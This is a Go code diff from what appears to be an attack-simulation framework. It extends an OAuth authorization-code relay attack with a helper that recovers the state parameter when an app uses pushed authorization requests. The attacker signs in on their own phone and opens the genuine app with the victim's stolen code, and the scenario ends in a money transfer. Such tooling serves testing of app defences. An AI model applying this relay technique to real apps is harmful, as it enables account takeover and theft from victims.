@@ -84,14 +84,11 @@ func CodeRelay(ctx context.Context, g *attack.Given) (attack.Result, error) {
 		return attack.Result{}, err
 	}
 	defer phone.Close()
-	if _, err := attack.Shown(phone.App.OpenSignIn(ctx)); err != nil {
+	state, err := begin(ctx, g, phone)
+	if err != nil {
 		return attack.Stopped(err)
 	}
-	page := phone.Device.Agent().Current()
-	if page == nil {
-		return attack.Result{}, errors.New("the app opens no page to sign in on")
-	}
-	relayed := g.RedirectURI + "?" + url.Values{"code": {code}, "state": {parameter(page.URL, "state")}, "iss": {parameter(link, "iss")}}.Encode()
+	relayed := g.RedirectURI + "?" + url.Values{"code": {code}, "state": {state}, "iss": {parameter(link, "iss")}}.Encode()
 	g.Say("Began to sign in with the genuine app on our own phone, and opened it with a link that carries its own state and the victim's code.")
 	if _, err := phone.Device.HandOver(ctx, relayed, g.Stage.Slug); err != nil {
 		return attack.Result{}, fmt.Errorf("open the app with a link: %w", err)
@@ -114,6 +111,33 @@ func CodeRelay(ctx context.Context, g *attack.Given) (attack.Result, error) {
 	}
 	g.Say("Transferred %d minor units from %s to %s with it.", payment.Amount, payment.From, payment.To)
 	return attack.Result{Claim: true, Stolen: []string{code}}, nil
+}
+
+// begin has the genuine app on a phone of the attacker's wait for an authorization response, and
+// returns the state that this has to have. It stands in the address of the page or, where the app has
+// pushed its request, in the one that leads back: the phone's owner signs in, and keeps that.
+func begin(ctx context.Context, g *attack.Given, phone *attack.Phone) (state string, err error) {
+	if _, err := attack.Shown(phone.App.OpenSignIn(ctx)); err != nil {
+		return "", err
+	}
+	agent := phone.Device.Agent()
+	page := agent.Current()
+	if page == nil {
+		return "", errors.New("the app opens no page to sign in on")
+	}
+	if state = parameter(page.URL, "state"); state != "" {
+		return state, nil
+	}
+	agent.Confirm(func(string) bool { return false })
+	defer agent.Confirm(nil)
+	if _, err := g.SignIn(ctx, phone.Device, phone.App, g.User, g.Password); err != nil {
+		return "", err
+	}
+	if state = parameter(agent.Current().URL, "state"); state == "" {
+		return "", errors.New("no address that leads back to the app has a state in it")
+	}
+	g.Say("The address of the page has no state in it: the app has pushed its request. Signed in there ourselves, and kept the link that leads back from the app.")
+	return state, nil
 }
 
 // hijack has the victim sign in while the attacker's app takes the redirect, and returns that.
